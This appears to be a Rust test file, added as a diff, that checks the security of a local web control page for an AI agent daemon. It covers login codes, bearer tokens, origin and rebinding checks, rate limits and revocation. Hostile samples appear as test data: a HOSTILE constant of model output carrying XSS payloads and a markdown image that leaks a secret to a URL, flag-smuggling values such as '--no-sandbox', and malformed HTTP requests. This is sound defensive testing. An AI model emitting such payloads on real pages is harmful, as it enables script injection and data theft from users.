@@ -1,0 +1,551 @@
+//! The page: who is let in, what a browser may ask for and in whose name, and a person's day in a real one.
+
+use crate::{
+    attacks::actor::controls,
+    daemon::{Daemon, PATIENCE},
+    stage::Stage,
+};
+use bailey_testkit::{Gate, Message, ModelServer, Reply};
+use serde_json::{Value, json};
+use std::{
+    fs,
+    io::{BufRead as _, BufReader, Read as _, Write as _},
+    net::TcpStream,
+    path::{Path, PathBuf},
+    process::{Command, Stdio},
+    thread,
+    time::{Duration, Instant},
+};
+
+/// A page of a stage's home.
+struct Page {
+    port: u16,
+    bearer: String,
+}
+
+/// What came back.
+#[derive(Debug)]
+struct Answer {
+    status: u16,
+    head: String,
+    body: String,
+}
+
+impl Answer {
+    /// Its lines of JSON, of whatever pieces it came in.
+    fn lines(&self) -> Vec<Value> {
+        self.body
+            .lines()
+            .filter_map(|line| serde_json::from_str(line).ok())
+            .filter(Value::is_object)
+            .collect()
+    }
+}
+
+fn link(stage: &Stage) -> String {
+    let ran = stage.ran(&["--json", "page", "link"]);
+    ran.lines()[0]["url"].as_str().unwrap_or_else(|| panic!("{ran:?}")).to_owned()
+}
+
+fn port(link: &str) -> u16 {
+    link.split(':').nth(2).unwrap().split('/').next().unwrap().parse().unwrap()
+}
+
+fn code(link: &str) -> &str {
+    link.split("#code=").nth(1).unwrap()
+}
+
+/// The home wants its page anywhere: tests run beside each other.
+fn anywhere(stage: &Stage) {
+    let config = stage.home().join("config.toml");
+    let own = fs::read_to_string(&config).unwrap_or_default();
+    fs::write(config, format!("{own}\n[page]\nlisten = \"127.0.0.1:0\"\n")).unwrap();
+}
+
+/// Sends a request as it is, and hears all of the answer.
+fn raw(port: u16, request: &str) -> Answer {
+    let mut stream = connect(port);
+    stream.write_all(request.as_bytes()).unwrap();
+    heard(stream)
+}
+
+/// The page listens from the daemon's start on, and its process may just begin.
+fn connect(port: u16) -> TcpStream {
+    let stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
+    stream.set_read_timeout(Some(PATIENCE)).unwrap();
+    stream
+}
+
+fn heard(mut stream: TcpStream) -> Answer {
+    let mut answer = Vec::new();
+    // Who cuts a request off in the middle may reset the connection.
+    stream.read_to_end(&mut answer).ok();
+    let answer = String::from_utf8_lossy(&answer).into_owned();
+    let (head, body) = answer.split_once("\r\n\r\n").unwrap_or((&answer, ""));
+    let status = head.split(' ').nth(1).and_then(|status| status.parse().ok()).unwrap_or(0);
+    Answer { status, head: head.into(), body: body.into() }
+}
+
+fn ask(port: u16, line: &str, heads: &[String], body: Option<&Value>) -> Answer {
+    let body = body.map(Value::to_string).unwrap_or_default();
+    let mut request = format!("{line} HTTP/1.1\r\nconnection: close\r\n");
+    heads.iter().for_each(|head| request.push_str(&format!("{head}\r\n")));
+    if line.starts_with("POST") {
+        request.push_str(&format!("content-length: {}\r\n", body.len()));
+    }
+    raw(port, &format!("{request}\r\n{body}"))
+}
+
+impl Page {
+    fn of(stage: &Stage) -> Self {
+        let link = link(stage);
+        let port = port(&link);
+        let answer = enter(port, code(&link));
+        assert_eq!(answer.status, 200, "{answer:?}");
+        Self { port, bearer: answer.lines()[0]["done"].as_str().unwrap().to_owned() }
+    }
+
+    fn heads(&self) -> Vec<String> {
+        vec![
+            format!("host: 127.0.0.1:{}", self.port),
+            format!("authorization: Bearer {}", self.bearer),
+            "content-type: application/json".into(),
+        ]
+    }
+
+    fn get(&self, path: &str) -> Answer {
+        ask(self.port, &format!("GET {path}"), &self.heads(), None)
+    }
+
+    fn post(&self, path: &str, body: &Value) -> Answer {
+        ask(self.port, &format!("POST {path}"), &self.heads(), Some(body))
+    }
+
+    /// Looks on at a session: the lines, and the name of the stream.
+    fn join(&self, session: &str, after: &str) -> (BufReader<TcpStream>, String) {
+        let mut stream = connect(self.port);
+        let heads = self.heads().join("\r\n");
+        let line = format!("GET /api/sessions/{session}/events{after} HTTP/1.1\r\n{heads}\r\n\r\n");
+        stream.write_all(line.as_bytes()).unwrap();
+        let mut lines = BufReader::new(stream);
+        let first = event(&mut lines, "stream");
+        (lines, first["stream"].as_str().unwrap().to_owned())
+    }
+}
+
+fn enter(port: u16, code: &str) -> Answer {
+    let heads = [format!("host: localhost:{port}"), "content-type: application/json".into()];
+    ask(port, "POST /api/login", &heads, Some(&json!({ "code": code })))
+}
+
+/// The next event of a type.
+fn event(lines: &mut BufReader<TcpStream>, kind: &str) -> Value {
+    loop {
+        let mut line = String::new();
+        assert!(lines.read_line(&mut line).unwrap() > 0, "the stream ended before `{kind}`");
+        match serde_json::from_str::<Value>(&line) {
+            Ok(value) if value["type"] == kind => return value,
+            _ => {}
+        }
+    }
+}
+
+fn started(stage: &Stage, program: &Path, without: &str) {
+    let mut start = Command::new(program);
+    start.args(stage.bailey(&["start"]).get_args()).env("BAILEY_CONTROL_PAGE_WITHOUT", without);
+    assert!(start.current_dir(stage.project()).stderr(Stdio::null()).status().unwrap().success());
+}
+
+fn released() -> &'static Path {
+    Path::new(env!("CARGO_BIN_EXE_bailey"))
+}
+
+#[test]
+fn a_link_lets_one_browser_in_once_and_a_bearer_is_nowhere() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let _model = stage.model(Vec::new());
+    anywhere(&stage);
+    let _daemon = Daemon::start(&stage);
+    let link = link(&stage);
+    let (port, code) = (port(&link), code(&link).to_owned());
+    assert_eq!(enter(port, &"0".repeat(64)).status, 401);
+    let answer = enter(port, &code);
+    assert_eq!(answer.status, 200, "{answer:?}");
+    let bearer = answer.lines()[0]["done"].as_str().unwrap().to_owned();
+    assert_eq!(enter(port, &code).status, 401, "it is good once");
+    let page = Page { port, bearer };
+    assert_eq!(page.get("/api/status").status, 200);
+    let listed = stage.ran(&["--json", "page", "list"]).lines();
+    assert_eq!(listed.len(), 1);
+
+    for word in [&page.bearer, &code] {
+        let found = Command::new("grep").args(["-rlaF", word]).arg(stage.home()).output().unwrap();
+        assert_eq!(String::from_utf8_lossy(&found.stdout), "", "it is written down");
+        let found = format!("grep -laF {word} /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null");
+        let found = Command::new("sh").args(["-c", &found]).output().unwrap();
+        // The shell that looks has it in its own line.
+        let found = String::from_utf8_lossy(&found.stdout).lines().count();
+        assert!(found <= 2, "a process was told it: {found}");
+    }
+    for wrong in [&page.bearer[1..], &format!("{} x", page.bearer), ""] {
+        let page = Page { port, bearer: wrong.to_owned() };
+        assert_eq!(page.get("/api/status").status, 401);
+    }
+}
+
+#[test]
+fn nobody_without_a_bearer_and_no_other_page_changes_or_sees_anything() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let _model = stage.model(Vec::new());
+    anywhere(&stage);
+    let schedule = json!({
+        "act": "add_schedule", "name": "evil", "when": "* * * * *", "task": "x", "directory": stage.project(),
+    });
+    let has_it = || stage.ran(&["--json", "schedule", "list"]).stdout.contains("evil");
+    // Each wall by itself: with it away, and only then, the same request is served.
+    for (without, program) in [("", released()), ("bearer", controls()), ("origins", controls())] {
+        started(&stage, program, without);
+        let _daemon = Daemon::of(&stage);
+        let page = Page::of(&stage);
+        let (port, json) = (page.port, "content-type: application/json".to_owned());
+        let host = format!("host: 127.0.0.1:{port}");
+        let bearer = format!("authorization: Bearer {}", page.bearer);
+        let other = |head: &str| vec![host.clone(), json.clone(), bearer.clone(), head.to_owned()];
+
+        let nobody = [host.clone(), json.clone()];
+        for (line, body) in [
+            ("POST /api/do", Some(&schedule)),
+            ("POST /api/do", Some(&json!({ "act": "estop" }))),
+            ("POST /api/sessions", Some(&json!({ "directory": stage.project() }))),
+            ("POST /api/logout", Some(&json!({}))),
+            ("GET /api/status", None),
+            ("GET /api/sessions", None),
+            ("GET /api/audit", None),
+            ("GET /metrics", None),
+        ] {
+            if without == "bearer"
+                && (line == "POST /api/do" && body != Some(&schedule) || line.contains("logout"))
+            {
+                continue;
+            }
+            // A header that is empty is there, and whoever looks at what it says decides.
+            let shown = [nobody.as_slice(), &["authorization: Bearer 0".to_owned()]].concat();
+            let answer = ask(port, line, &shown, body);
+            let is_served = answer.status == 200 || answer.status == 409;
+            assert_eq!(is_served, without == "bearer", "{without}: {line}: {answer:?}");
+            assert!(!without.is_empty() || answer.status == 401, "{line}: {answer:?}");
+            assert_eq!(ask(port, line, &nobody, body).status, 401, "{line}: none is not even asked about");
+        }
+        assert_eq!(has_it(), without == "bearer");
+        stage.ran(&["schedule", "rm", "evil"]);
+
+        // Another page that came by a bearer, a name that was led here, a form.
+        for (what, heads) in [
+            ("another page", other("origin: https://evil.example")),
+            ("another port's page", other(&format!("origin: http://127.0.0.1:{}", port - 1))),
+            ("no page", other("origin: null")),
+            ("a cross-site request", other("sec-fetch-site: cross-site")),
+            ("a same-site request", other("sec-fetch-site: same-site")),
+            ("rebinding", vec![format!("host: evil.example:{port}"), json.clone(), bearer.clone()]),
+            ("a form", vec![host.clone(), "content-type: text/plain".into(), bearer.clone()]),
+        ] {
+            let answer = ask(port, "POST /api/do", &heads, Some(&schedule));
+            let is_refused = matches!(answer.status, 403 | 415 | 421);
+            assert_eq!(is_refused, without != "origins", "{without}: {what}: {answer:?}");
+            assert_eq!(has_it(), without == "origins", "{without}: {what}");
+            stage.ran(&["schedule", "rm", "evil"]);
+        }
+    }
+}
+
+#[test]
+fn guesses_are_counted_over_all_connections_and_a_right_code_waits_too() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let _model = stage.model(Vec::new());
+    anywhere(&stage);
+    for (without, program) in [("", released()), ("limit", controls())] {
+        started(&stage, program, without);
+        let _daemon = Daemon::of(&stage);
+        let inside = Page::of(&stage);
+        let link = link(&stage);
+        let statuses: Vec<u16> = (0..40)
+            .map(|number| {
+                let wrong = format!("{number:064x}");
+                if number % 2 == 0 {
+                    enter(inside.port, &wrong).status
+                } else {
+                    Page { port: inside.port, bearer: wrong }.get("/api/status").status
+                }
+            })
+            .collect();
+        let later = statuses.iter().filter(|status| **status == 429).count();
+        assert_eq!(later, if without.is_empty() { 30 } else { 0 }, "{statuses:?}");
+        // Names that a client may wish to be taken by change nothing.
+        let heads = [format!("host: localhost:{}", inside.port), "content-type: application/json".into()];
+        let more = json!({ "code": "0", "role": "owner", "token": "x" });
+        assert_eq!(ask(inside.port, "POST /api/login", &heads, Some(&more)).status, 400);
+        let answer = enter(inside.port, code(&link));
+        assert_eq!(answer.status, if without.is_empty() { 429 } else { 200 }, "{answer:?}");
+        assert_eq!(answer.head.contains("retry-after"), without.is_empty());
+        assert_eq!(inside.get("/api/status").status, 200, "who is in already goes on");
+    }
+}
+
+#[test]
+fn whoever_is_revoked_is_out_at_once_and_the_others_go_on_where_they_were() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let gate = Gate::default();
+    let model =
+        stage.model(vec![Reply::text("the first"), Reply::Held(gate.clone(), Message::text("the second"))]);
+    default_model(&stage);
+    anywhere(&stage);
+    let _daemon = Daemon::start(&stage);
+    let (one, two) = (Page::of(&stage), Page::of(&stage));
+    let answer = one.post("/api/sessions", &json!({ "directory": stage.project() }));
+    let session = answer.lines()[0]["done"].as_str().unwrap_or_else(|| panic!("{answer:?}")).to_owned();
+    let (mut of_one, stream) = one.join(&session, "");
+    let (mut of_two, _) = two.join(&session, "");
+    // A stream is whose it is: another's bearer says nothing there.
+    let say = json!({ "op": "say", "text": "hello" });
+    assert_eq!(two.post(&format!("/api/streams/{stream}"), &say).status, 409);
+    assert_eq!(one.post(&format!("/api/streams/{stream}"), &say).status, 202);
+    assert_eq!(event(&mut of_two, "said")["by"], json!("owner at the page (page 1)"));
+    let end = event(&mut of_two, "end");
+    event(&mut of_one, "end");
+    assert_eq!(one.post(&format!("/api/streams/{stream}"), &say).status, 202);
+    model.wait_for(2);
+
+    let begin = Instant::now();
+    assert_eq!(stage.ran(&["page", "revoke", "1"]).code, Some(0));
+    let mut rest = String::new();
+    of_one.read_to_string(&mut rest).ok();
+    assert!(begin.elapsed() < Duration::from_secs(1), "its stream is open after {:?}", begin.elapsed());
+    assert_eq!(one.get("/api/status").status, 401);
+    assert_eq!(one.post(&format!("/api/streams/{stream}"), &say).status, 409);
+
+    // The other one comes back behind the last line that it has, and the turn goes on.
+    let (run, line) = (end["run"].as_str().unwrap(), end["line"].as_u64().unwrap());
+    let (mut of_two, _) = two.join(&session, &format!("?run={run}&line={line}"));
+    let next = event(&mut of_two, "said");
+    assert_eq!(next["line"], json!(line + 1), "nothing is missing, and nothing twice");
+    gate.open();
+    event(&mut of_two, "text");
+    event(&mut of_two, "end");
+}
+
+#[test]
+fn what_a_browser_says_of_itself_counts_for_nothing() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let _model = stage.model(vec![Reply::text("hello")]);
+    default_model(&stage);
+    anywhere(&stage);
+    let _daemon = Daemon::start(&stage);
+    let page = Page::of(&stage);
+    let body = json!({ "directory": stage.project(), "role": "owner" });
+    assert_eq!(page.post("/api/sessions", &body).status, 400, "nothing that is not asked for is taken");
+    for (directory, model) in
+        [("a", None), ("/nowhere", None), ("--no-sandbox", None), ("/", Some("--no-sandbox"))]
+    {
+        let answer = page.post("/api/sessions", &json!({ "directory": directory, "model": model }));
+        assert_eq!(answer.status, 409, "{answer:?}");
+    }
+    // Words are words, and no flags.
+    for name in ["--home=/tmp", "-C"] {
+        let body = json!({ "act": "run_schedule", "name": name });
+        let answer = page.post("/api/do", &body);
+        assert!(answer.lines()[0]["error"].as_str().unwrap().contains(name), "{answer:?}");
+    }
+    let answer = page.post("/api/do", &json!({ "act": "config", "key": "model" }));
+    assert_eq!(answer.status, 400, "no setting is written here: {answer:?}");
+
+    let answer = page.post("/api/sessions", &json!({ "directory": stage.project() }));
+    let session = answer.lines()[0]["done"].as_str().unwrap().to_owned();
+    let (mut lines, stream) = page.join(&session, "");
+    let by = json!({ "channel": "x", "id": "0", "name": "Root", "role": "owner" });
+    let say = json!({ "op": "say", "text": "hello", "by": by });
+    assert_eq!(page.post(&format!("/api/streams/{stream}"), &say).status, 202);
+    event(&mut lines, "end");
+    let shown = stage.ran(&["--json", "sessions", "show", &session]).lines();
+    let said = shown.iter().find(|line| line["entry"]["type"] == "accepted").unwrap();
+    assert_eq!(said["entry"]["by"]["channel"], "page", "{said}");
+    assert_eq!(said["entry"]["by"]["name"], "at the page");
+    for op in [json!({ "op": "estop" }), json!([]), json!({ "op": "say" })] {
+        assert_eq!(page.post(&format!("/api/streams/{stream}"), &op).status, 400);
+    }
+}
+
+#[test]
+fn what_is_too_long_too_slow_or_none_of_it_ends_there() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let _model = stage.model(Vec::new());
+    anywhere(&stage);
+    let _daemon = Daemon::start(&stage);
+    let page = Page::of(&stage);
+    let long = "x".repeat(300 << 10);
+    let answer = page.post("/api/do", &json!({ "act": "estop", "reason": long }));
+    assert_eq!(answer.status, 413, "{answer:?}");
+    let answer = page.post("/api/do", &json!({ "act": "estop", "reason": "x".repeat(100 << 10) }));
+    assert_eq!(answer.status, 409, "{answer:?}");
+    let head = format!("GET / HTTP/1.1\r\nhost: 127.0.0.1:{}\r\nx: {long}\r\n\r\n", page.port);
+    assert!(matches!(raw(page.port, &head).status, 431 | 0));
+    for hostile in [
+        "\u{0}\r\n\r\n",
+        "GET /\r\n\r\n",
+        "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
+        "GET http://evil/ HTTP/1.1\r\n\r\n",
+    ] {
+        let status = raw(page.port, hostile).status;
+        assert!(status == 0 || status >= 400, "{hostile:?}: {status}");
+    }
+    // More connections than are served at once: those that come later wait, and none takes the others' place.
+    let mut idle: Vec<TcpStream> = (0..100).map(|_| connect(page.port)).collect();
+    idle.iter_mut().for_each(|stream| drop(stream.write_all(b"GET / HT")));
+    assert_eq!(page.get("/api/status").status, 200);
+    drop(idle);
+    assert_eq!(page.get("/healthz").body, "ok\n");
+}
+
+#[test]
+fn figures_are_for_whoever_has_a_token_and_that_is_all_it_opens() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let _model = stage.model(vec![Reply::text("hello")]);
+    default_model(&stage);
+    anywhere(&stage);
+    let _daemon = Daemon::start(&stage);
+    let page = Page::of(&stage);
+    let token =
+        stage.ran(&["--json", "page", "token", "collector"]).lines()[0]["token"].as_str().unwrap().to_owned();
+    let collector = Page { port: page.port, bearer: token };
+    let answer = collector.get("/metrics");
+    assert_eq!(answer.status, 200, "{answer:?}");
+    assert!(answer.head.contains("text/plain"));
+    for line in
+        ["bailey_sessions{state=\"working\"} 0", "# TYPE bailey_turns_total counter", "bailey_turns_total 0"]
+    {
+        assert!(answer.body.contains(line), "{line}: {}", answer.body);
+    }
+    // Each line is a comment, or a name with labels and a number.
+    for line in answer.body.lines().filter(|line| !line.starts_with('#')) {
+        let (name, value) = line.rsplit_once(' ').unwrap();
+        assert!(name.starts_with("bailey_") && value.parse::<f64>().is_ok(), "{line}");
+    }
+    for path in ["/api/status", "/api/sessions", "/api/audit"] {
+        assert_eq!(collector.get(path).status, 409, "{path}");
+    }
+    assert_eq!(collector.post("/api/do", &json!({ "act": "backup" })).status, 409);
+
+    let answer = page.post("/api/sessions", &json!({ "directory": stage.project() }));
+    let session = answer.lines()[0]["done"].as_str().unwrap().to_owned();
+    let (mut lines, stream) = page.join(&session, "");
+    let said = page.post(&format!("/api/streams/{stream}"), &json!({ "op": "say", "text": "x" }));
+    assert_eq!(said.status, 202);
+    event(&mut lines, "end");
+    let deadline = Instant::now() + PATIENCE;
+    while !collector.get("/metrics").body.contains("bailey_turns_total 1") {
+        assert!(Instant::now() < deadline, "{}", collector.get("/metrics").body);
+        thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn where_others_could_come_to_it_it_does_not_listen() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    for (key, value) in [
+        ("listen", "0.0.0.0:7411"),
+        ("listen", "[::]:7411"),
+        ("listen", "192.0.2.1:7411"),
+        ("shown_as", "http://bailey.example"),
+        ("shown_as", "https://bailey.example/below"),
+    ] {
+        fs::create_dir_all(stage.home()).unwrap();
+        fs::write(stage.home().join("config.toml"), format!("[page]\n{key} = \"{value}\"\n")).unwrap();
+        let ran = stage.ran(&["start"]);
+        assert!(
+            ran.code != Some(0) && ran.stderr.contains("config.toml:2:") && ran.stderr.contains(value),
+            "{value}: {ran:?}"
+        );
+    }
+}
+
+/// Conversations that are begun without a word about the model.
+fn default_model(stage: &Stage) {
+    let config = stage.home().join("config.toml");
+    let own = fs::read_to_string(&config).unwrap();
+    fs::write(config, format!("model = \"test/model\"\n{own}")).unwrap();
+}
+
+/// Where a real browser, and what drives it, lie; none where they do not.
+fn browser() -> Option<(PathBuf, PathBuf)> {
+    let modules = released().parent()?.parent()?.join("npm/node_modules");
+    let chromium = ["chromium", "chromium-browser", "google-chrome"]
+        .iter()
+        .find_map(|name| Some(Path::new("/usr/bin").join(name)).filter(|path| path.exists()));
+    match chromium.filter(|_| modules.join("playwright-core").exists() && modules.join("axe-core").exists()) {
+        Some(chromium) => Some((chromium, modules)),
+        None => {
+            println!(
+                "SKIPPED: no Chromium, playwright-core or axe-core here (`cargo xtask test --all --install` brings them)"
+            );
+            None
+        }
+    }
+}
+
+/// A script in a real browser, which is told a link, and where the model is reached that would hear of a leak.
+fn browse(stage: &Stage, script: &str, model: &ModelServer) -> bool {
+    let Some((chromium, modules)) = browser() else { return false };
+    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/page").join(script);
+    let ran = Command::new("node")
+        .arg(&script)
+        .env("LINK", link(stage))
+        .env("PROJECT", stage.project())
+        .env("CHROMIUM", chromium)
+        .env("MODULES", modules)
+        .env("LEAK", model.base_url())
+        .env("BAILEY", released())
+        .env("BAILEY_HOME", stage.home())
+        .env("HOME", stage.home())
+        .output()
+        .unwrap();
+    let told = format!("{}{}", String::from_utf8_lossy(&ran.stdout), String::from_utf8_lossy(&ran.stderr));
+    assert!(ran.status.success(), "{told}");
+    println!("{told}");
+    true
+}
+
+/// What a model may say to make a browser do something.
+const HOSTILE: &str = "<img src=x onerror=\"document.title='taken'\"> <script>document.title='taken'</script>\n\n\
+                       ![private](LEAK/?secret=1) [here](javascript:document.title='taken') \u{202e}txet desrever\n\n\
+                       # Done\n\n- one `code`\n- **two**\n\n```rust\nfn main() {}\n```\n";
+
+#[test]
+fn a_persons_day_in_a_browser() {
+    let stage = Stage::new(&[("a.txt", "one\n")]);
+    let write =
+        |call: &str| Reply::calls([(call, "fs_write", json!({ "path": "b.txt", "content": "two\n" }))]);
+    // Not in the project: a human is asked.
+    let folder = tempfile::Builder::new().prefix("bailey-test-").tempdir_in("/var/tmp").unwrap();
+    let file = folder.path().canonicalize().unwrap().join("notes.txt");
+    fs::write(&file, "what the notes say\n").unwrap();
+    let ask = Reply::calls([("c2", "fs_read", json!({ "path": file.to_str().unwrap() }))]);
+    let model = stage.model(Vec::new());
+    let hostile = HOSTILE.replace("LEAK", &model.base_url());
+    for reply in [write("c1"), ask, Reply::text(&hostile), Reply::text("I am back, and here is more.")] {
+        model.push(reply);
+    }
+    default_model(&stage);
+    anywhere(&stage);
+    let _daemon = Daemon::start(&stage);
+    if !browse(&stage, "day.mjs", &model) {
+        return;
+    }
+    assert_eq!(
+        fs::read_to_string(stage.project().join("b.txt")).unwrap(),
+        "two\n",
+        "it was applied at the page"
+    );
+    let leaks = model.requests().iter().filter(|request| !request.path.ends_with("/messages")).count();
+    assert_eq!(leaks, 0, "a picture was asked for");
+    let log = stage.ran(&["--json", "audit", "log", "-n", "200"]);
+    assert!(log.stdout.contains("\"channel\":\"page\""), "who answered is in the journal: {}", log.stdout);
+}
